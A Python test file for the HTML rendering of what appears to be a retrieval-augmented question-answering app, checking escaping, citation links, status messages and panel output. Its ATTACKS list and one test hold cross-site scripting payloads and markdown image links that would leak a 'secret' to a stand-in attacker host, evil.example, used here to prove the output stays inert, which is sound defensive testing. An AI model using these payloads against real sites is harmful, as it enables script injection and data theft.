"""What the page shows, without a page: escaping above all, then citations, states and tables."""

from __future__ import annotations

import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apps import acts, cards, frame, panels, panels_decide, panels_tune, render
from apps.drill import Disagreement, Said
from apps.markup import answer_html, clean, escape, marked, sentence
from apps.processes import Job
from apps.strings import CHINESE
from apps.views import (
    ArmChoice,
    ChunkRow,
    DecisionView,
    DocumentRow,
    Exchange,
    ModelState,
    OpenDocument,
    Reply,
    SearchColumn,
    TalkRow,
    Upload,
    Voted,
)
from apps.workshop import AdapterRow, Preview, RowView
from rag.types import Answer, Chunk, Citation, Finished, Passage, Retrieved, Scores, Searching, Step, Token

TEXT = "The ferry leaves at 07:40. It leaves from pier 4. A return ticket costs 18 crowns."
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "![x](http://evil.example/?q=secret)",
    "![x][ref]\n\n[ref]: http://evil.example/x.png",
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "<http://evil.example/auto>",
    "http://evil.example/bare",
    "<iframe src=http://evil.example></iframe>",
    "<style>@import url(http://evil.example)</style>",
    "<a href='http://evil.example'>x</a>",
    "${alert(1)} {{alert(1)}} `${1}`",
    "</div></details></article><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr",
    "ipt>alert(1)</scr",
    "\ud800 \x00 \u202egnp.exe",
]
_TAGS = """div p span b i h1 h2 h3 h4 h5 h6 code pre ul ol li a article section aside header details summary mark bdi
    button table thead tbody tr th td br em strong blockquote hr nav form fieldset legend label input textarea svg path
    dl dt dd figure figcaption polyline text output"""
_ATTRIBUTES = """class id href title open role style dir type start tabindex aria-label aria-busy data-turn data-arm
    data-status data-target data-start data-end data-at data-source data-label data-stage data-bus data-event data-vote
    data-voted data-talk data-form data-job data-adapter data-state data-keep name value maxlength rows checked scope lang
    hreflang aria-pressed aria-current aria-expanded aria-hidden viewbox d points x y text-anchor data-chosen"""
TAGS, ATTRIBUTES = set(_TAGS.split()), set(_ATTRIBUTES.split())


class Seen(HTMLParser):
    """What a browser would make of the HTML: its tags, attributes and visible text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def check_inert(html: str) -> Seen:
    """No element, attribute or address that could act or fetch."""
    seen = Seen(html)
    for tag, attributes in seen.elements:
        assert tag in TAGS, (tag, html)
        assert set(attributes) <= ATTRIBUTES, (tag, attributes)
        assert re.match(r"#|/(zh)?$", attributes.get("href") or "#")
        assert re.fullmatch(r"width:\d+%|text-align:\w+|", attributes.get("style") or "")
    html.encode("utf-8")  # what cannot be encoded cannot be sent
    return seen


def chunk(
    text: str = TEXT, *, start: int = 100, source: str = "ferry.md", page: int | None = 3, id: str = "c1"
) -> Chunk:
    return Chunk(id, "d1", source, start, start + len(text), text, page, ("Ferry", "Times"))


def passage(rank: int = 1, score: float = 0.8, **of_chunk: object) -> Passage:
    return Passage(chunk(id=f"c{rank}", **of_chunk), rank, score, Scores(dense=0.5, lexical=7.25, fused=score))  # type: ignore[arg-type]


def citation(number: int, quote: str, *, base: int = 100, support: float = 1.0) -> Citation:
    at = TEXT.index(quote)
    return Citation(number, f"c{number}", "ferry.md", 3, base + at, base + at + len(quote), quote, support)


def answered(
    text: str,
    *,
    citations: tuple[Citation, ...] = (),
    passages: tuple[Passage, ...] = (),
    arm: str = "rag",
    **more: object,
) -> Reply:
    answer = Answer(
        "When?",
        text,
        arm,
        citations=citations,
        passages=passages,
        model="tiny",
        seconds=1.25,
        tokens_in=1200,
        tokens_out=7,
        **more,
    )  # type: ignore[arg-type]
    return Reply(arm).after(Finished(answer))


def exchange(*replies: Reply, question: str = "When?", id: str = "t1") -> Exchange:
    return Exchange(id, question, replies)


# ------------------------------------------------------------------- escaping


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_text_of_a_stranger_acts(attack: str) -> None:
    hostile = Passage(Chunk("c1", "d", attack, 0, len(attack), attack, 1, (attack, attack)), 1, 0.5)
    cited = Citation(1, "c1", attack, 1, 0, len(attack), attack, 1.0)
    step = Step(attack, attack, {attack: attack}, 0.1)
    details = {"route": {"arm": attack, "reason": attack}}
    reply = answered(attack + " [1]", citations=(cited,), passages=(hostile,), adapter=attack, details=details)
    reply = replace(reply, steps=(step,))
    vote = {("t1", "rag"): Voted(False, ("style",), attack)}
    job = Job(attack, attack, (attack,), attack, 0.0, "failed", attack, 1, 2, attack, attack)
    rows = (RowView(attack, "answer", ({"role": "user", "content": attack},), attack, 3),)
    drilled = Disagreement(attack, (attack,), (Said(attack, attack, 0.5),), 0.5, attack)
    view = exchange(replace(reply, answer=replace(reply.answer, model=attack)), question=attack)  # type: ignore[type-var]
    shown = [
        render.answers(view), render.sources(view), render.conversation([view]), frame.notice(attack),
        render.answers(view, CHINESE, votes=vote), acts.steps((step,), is_open=True),
        frame.rail([TalkRow(attack.replace("\ud800", ""), attack, 0.0, 1)], "x", now=9e5),
        cards.chunks([ChunkRow(1, 0, 5, 1, (attack,), attack)], 9),
        panels_tune.job(job, (), attack), panels_tune.jobs([job], attack), panels_tune.command(attack),
        panels_tune.preview(Preview(3, rows, {"abstain": 0.1})),
        panels_tune.adapters([AdapterRow(attack, attack, attack, attack)]), panels_decide.drill([drilled]),
        render.answers(exchange(Reply("rag", "failed", attack))),
        render.answers(exchange(Reply("rag", "searching", query=attack, chunks=3))),
        render.answers(exchange(Reply("rag", "writing", text=attack))),
        frame.header(attack, 1, 2, ModelState("failed", attack, attack, attack)),
        frame.arm_note(ArmChoice("rag", "rag", True, attack), [ArmChoice("tuned", attack, False, attack)]),
        cards.document(OpenDocument(attack, attack, 5, 6, 8, 900)),
        panels.documents([DocumentRow(attack, attack + "!", 1, 2)], total=1),
        panels.uploads([Upload(attack, attack, "failed", attack)]),
        panels.search(attack, [SearchColumn("dense", (hostile,)), SearchColumn("rerank", (), attack)]),
        panels.about_to_delete([attack]), panels.said(attack),
        panels_decide.decision(DecisionView({"chosen": "rag", "reason": attack, "warnings": [attack], "arms": [{"arm": attack, "f1": attack}]}, attack)),
    ]  # fmt: skip
    for html in shown:
        check_inert(html)


def test_hostile_text_stays_readable() -> None:
    seen = check_inert(render.answers(exchange(answered("Say <b>hi</b> & go to http://evil.example"))))
    assert "Say <b>hi</b> & go to http://evil.example" in seen.text


def test_links_and_images_become_text_with_their_address() -> None:
    seen = check_inert(
        answer_html("See [the site](http://a.example/x) and ![a map](http://b.example/m.png).", lambda n: None)
    )
    assert "the site http://a.example/x" in seen.text
    assert "a map http://b.example/m.png" in seen.text
    assert not any(tag in ("a", "img") for tag, _ in seen.elements)


def test_markdown_of_an_answer_is_rendered() -> None:
    html = answer_html("**Bold**, `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |", lambda n: None)
    tags = [tag for tag, _ in check_inert(html).elements]
    assert {"strong", "code", "ul", "li", "table", "td"} <= set(tags)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from("<>&\"'`*_[]()!#|:/-=\\ \nab1${}\x00\u202e\ud800"), max_size=80))
def test_any_markdown_is_inert(text: str) -> None:
    check_inert(answer_html(text, lambda n: f'<a class="rt-cite" href="#s{n}">{n}</a>'))


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=60), st.lists(st.tuples(st.integers(-5, 70), st.integers(-5, 70)), max_size=4))
def test_marking_keeps_the_text(text: str, spans: list[tuple[int, int]]) -> None:
    assert Seen(f"<div>{marked(text, spans)}</div>").text == clean(text).replace("\r\n", "\n").replace("\r", "\n")


def test_marking_joins_overlaps_and_keeps_to_the_text() -> None:
    assert marked("abcdefghij", [(2, 5), (4, 7), (9, 40), (-3, 1)]) == (
        '<mark data-at="0">a</mark>b<mark data-at="2">cdefg</mark>hi<mark data-at="9">j</mark>'
    )


def test_backticks_of_our_own_sentences_are_code() -> None:
    assert sentence("Run `ragtune <x>` now") == "Run <code>ragtune &lt;x&gt;</code> now"
    assert escape("a\rb\x07") == "a\ufffdb\ufffd"


# ------------------------------------------------------------------ citations


def test_a_citation_links_to_its_card_and_marks_its_sentence() -> None:
    found = (passage(1), passage(2, 0.4))
    view = exchange(answered("At 07:40 [1].", citations=(citation(1, "The ferry leaves at 07:40."),), passages=found))
    link = next(a for tag, a in Seen(render.answers(view)).elements if tag == "a")
    assert link["href"] == "#src-t1-0-1" and link["data-target"] == "src-t1-0-1"
    assert (link["data-start"], link["data-end"], link["data-at"]) == ("100", "126", "0")
    html = render.sources(view)
    assert 'id="src-t1-0-1" open' in html and 'id="src-t1-0-2">' in html
    assert '<mark data-at="0">The ferry leaves at 07:40.</mark>' in html
    assert "cited, 100% support" in html
    assert 'data-source="ferry.md" data-start="100" data-end="126"' in html


def test_the_nth_marker_of_a_passage_opens_its_nth_sentence() -> None:
    quotes = citation(1, "The ferry leaves at 07:40."), citation(1, "It leaves from pier 4.")
    view = exchange(answered("At 07:40 [1]. From pier 4 [1].", citations=quotes, passages=(passage(1),)))
    links = [a["data-start"] for tag, a in Seen(render.answers(view)).elements if tag == "a"]
    assert links == ["100", "127"]


def test_a_number_without_a_passage_is_not_a_link_and_is_counted() -> None:
    html = render.answers(exchange(answered("So it is [7].", passages=(passage(1),), unknown_markers=(7,))))
    assert "[7]" in Seen(html).text and "rt-cite" not in html
    assert "1 citation named no passage and was removed" in html


def test_citations_link_while_the_answer_is_still_written() -> None:
    reply = (
        Reply("rag")
        .after(Retrieved((passage(1), passage(2)), 0, 0.1))
        .after(Token("At 07:40 [1"))
        .after(Token("] and [9]"))
    )
    html = render.answers(exchange(reply))
    assert 'data-target="src-t1-0-1"' in html and "[9]" in html


def test_weak_support_is_said() -> None:
    weak = citation(1, "It leaves from pier 4.", support=0.25)
    assert "cited, only 25% support" in render.sources(
        exchange(answered("x [1]", citations=(weak,), passages=(passage(1),)))
    )


def test_scores_bars_and_page_are_on_the_card() -> None:
    html = cards.card("a", passage(2, 0.4), 0.5)
    seen = Seen(html)
    assert "ferry.md" in seen.text and "page 3" in seen.text and "Ferry › Times" in seen.text
    assert "width:50%" in html and "Score 0.400, rank 2" in html
    rows = re.findall(r"<th>([^<]+)</th><td>([^<]+)</td>", html)
    assert rows == [
        ("Rank", "2"), ("Meaning (dense)", "0.500"), ("Words (lexical)", "7.250"), ("Both (fused)", "0.400"), ("Reranked", "–"),
    ]  # fmt: skip


def test_bars_never_invert() -> None:
    assert cards.normalised([4.0, 2.0, 0.0]) == [1.0, 0.5, 0.04]
    assert cards.normalised([-1.0, -2.0, -3.0]) == [1.0, 0.5, 0.04]
    assert cards.normalised([0.0, 0.0]) == [1.0, 1.0]
    assert cards.normalised([5.0]) == [1.0]


# --------------------------------------------------------------------- states


@pytest.mark.parametrize(
    ("reply", "says"),
    [
        (Reply("rag", "loading", "Loading the chat model…"), "Loading the chat model…"),
        (Reply("rag", "waiting", "Another question is being answered first…", seconds=5), "answered first… 5 s"),
        (Reply("rag").after(Searching("when?", 1240)), "Searching 1,240 chunks for “when?”…"),
        (Reply("rag").after(Searching("When?", 1)), "Searching 1 chunk…"),
        (Reply("rag").after(Retrieved((passage(1),), 0, 0.1)), "Reading 1 passage…"),
        (Reply("base", "reading"), "Thinking…"),
        (Reply("rag", "stopped"), "Stopped. Nothing had been written yet."),
        (Reply("rag", "stopped", text="At"), "Stopped. What was written so far is kept above."),
        (Reply("rag", "failed", "The model is gone."), "The model is gone."),
        (answered(""), "The model ended without a word."),
        (answered("Forty-two.", arm="base"), "no document was read"),
        (answered("Forty-two.", passages=(passage(1),)), "The answer names no source"),
    ],
)
def test_every_state_is_said(reply: Reply, says: str) -> None:
    assert says in Seen(render.answers(exchange(reply))).text


def test_an_abstention_is_honest_and_shows_what_was_read() -> None:
    view = exchange(answered("Not in the documents.", passages=(passage(1),), abstained=True))
    text = Seen(render.answers(view)).text
    assert "Not in the documents. The passages found do not answer this." in text
    assert "ferry.md" in Seen(render.sources(view)).text


def test_the_footer_names_arm_model_adapter_and_cost() -> None:
    text = Seen(render.answers(exchange(answered("x", arm="tuned+rag", adapter="runs/first/adapter-rag")))).text
    for fact in ("tuned+rag", "tiny", "adapter adapter-rag", "1.2 s", "1,200 tokens read, 7 written"):
        assert fact in text


def test_what_was_cut_is_said_and_nothing_found_too() -> None:
    assert "2 more passages did not fit" in render.sources(exchange(answered("x", passages=(passage(1),), cut=2)))
    assert "1 more passage did not fit" in render.sources(exchange(answered("x", passages=(passage(1),), cut=1)))
    assert "Nothing in the documents resembles" in render.sources(exchange(answered("x")))


def test_sources_come_before_the_answer_and_not_for_closed_book_arms() -> None:
    found = Reply("rag").after(Searching("When?", 9)).after(Retrieved((passage(1),), 0, 0.1))
    assert "ferry.md" in render.sources(exchange(found))
    assert render.sources(exchange(Reply("rag").after(Searching("When?", 9)))).count("<details") == 0
    assert render.sources(exchange(answered("x", arm="base"))).count("<details") == 0


def test_two_arms_share_the_cards_of_the_same_passages() -> None:
    found = (passage(1),)
    view = exchange(answered("a [1]", passages=found), answered("b [1]", passages=found, arm="tuned+rag"))
    assert render.sources(view).count('class="rt-card') == 1
    assert render.answers(view).count("rt-reply") == 2 and "rt-two" in render.answers(view)
    other = exchange(answered("a [1]", passages=found), answered("b [2]", passages=(passage(2),), arm="tuned+rag"))
    html = render.sources(other)
    assert "Sources of rag" in html and "Sources of tuned+rag" in html
    assert 'data-target="src-t1-1-2"' in render.answers(other) and 'id="src-t1-1-2"' in html


def test_earlier_exchanges_keep_their_sources_folded() -> None:
    view = exchange(answered("a [1]", citations=(citation(1, "The ferry leaves at 07:40."),), passages=(passage(1),)))
    html = render.conversation([view])
    assert "1 source, 1 cited" in html and " open" not in html


def test_empty_states_say_the_next_step() -> None:
    assert "ragtune index" in frame.welcome(0, 0) and "Ask your documents" in frame.welcome(2, 9)
    assert "ragtune index" in panels.documents([], total=0)
    assert "Clear the filter" in panels.documents([], total=5, filtered=True)
    assert "ragtune decide" in panels_decide.decision(None)
    assert "No model is asked" in panels.search("", ())
    assert panels.uploads(()) == "" and frame.notice("") == ""


# -------------------------------------------------------------- the other tabs


def test_the_table_of_documents_is_bounded() -> None:
    rows = [DocumentRow(f"d{i}.md", "T", 0, 3) for i in range(panels.MAX_ROWS + 5)]
    html = panels.documents(rows, total=len(rows))
    assert html.count("<tr>") == panels.MAX_ROWS + 1 and "5 more are not listed" in html


def test_uploads_show_progress_and_verdicts() -> None:
    items = [
        Upload("a.md", status="indexed", note="2 chunks."),
        Upload("b.pdf", status="failed", note="It is empty."),
        Upload("c.md"),
    ]
    text = Seen(panels.uploads(items)).text
    assert "2 of 3 files done" in text and "It is empty." in text and "not indexed" in text and "waiting" in text


def test_the_decision_shows_figures_warnings_and_a_report_that_can_do_nothing() -> None:
    data = {
        "chosen": "tuned+rag", "reason": "It is better by 0.2.", "warnings": ["Only 20 questions."],
        "arms": [
            {"arm": "rag", "f1": {"mean": 0.25, "low": 0.2, "high": 0.3}, "seconds_per_question": 1.5, "cost": 0.0123},
            {"arm": "tuned+rag", "f1": {"mean": 0.45, "low": 0.4, "high": 0.5}},
        ],
    }  # fmt: skip
    report = "<h1>Report</h1><script>parent.alert('x')</script><img src=http://evil.example>"
    view = DecisionView(data, "run", report)
    html = panels_decide.decision(view) + panels_decide.details(view)
    seen = Seen(html)
    assert "tuned+rag was chosen" in seen.text and "Only 20 questions." in seen.text
    assert "0.25" in seen.text and "0.20 – 0.30" in seen.text and "1.5 s" in seen.text and "12.3 ms" in seen.text
    frame = next(a for tag, a in seen.elements if tag == "iframe")
    assert frame["sandbox"] == "" and frame["srcdoc"] == report
    assert not any(tag in ("script", "img") for tag, _ in seen.elements)
    assert next(a for tag, a in seen.elements if tag == "a")["href"].startswith("data:text/html;base64,")  # type: ignore[union-attr]


def test_a_decision_without_a_winner_or_report_says_so() -> None:
    view = DecisionView({"chosen": None, "reason": "No difference."}, "run")
    html = panels_decide.decision(view) + panels_decide.details(view)
    assert "No arm was chosen" in html and "no report.html" in html


def test_a_long_document_says_what_is_left_out() -> None:
    html = cards.document(OpenDocument("a.md", "x" * 50, 100, 110, 120, 1150))
    assert "100 characters before" in html and "1,000 characters after" in html
    assert f'<mark data-at="10">{"x" * 10}</mark>' in html
